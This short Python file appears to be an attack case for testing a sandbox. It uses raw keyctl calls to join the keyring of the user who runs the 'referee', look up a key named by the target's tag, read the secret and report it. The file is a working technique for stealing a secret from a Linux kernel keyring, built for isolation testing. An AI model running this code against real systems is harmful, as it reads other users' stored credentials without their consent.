"""Reads a key in the keyring of the user that runs the referee."""

import ctypes

from attack import attack, call, target, tell


@attack
def _():
    call("keyctl", 0, -4, 1)  # make its user's keyring known to it
    key, text = (
        call("keyctl", 10, -4, b"user", target.tag.encode(), 0),
        ctypes.create_string_buffer(100),
    )
    call("keyctl", 11, key, text, 100)
    tell(text.value)
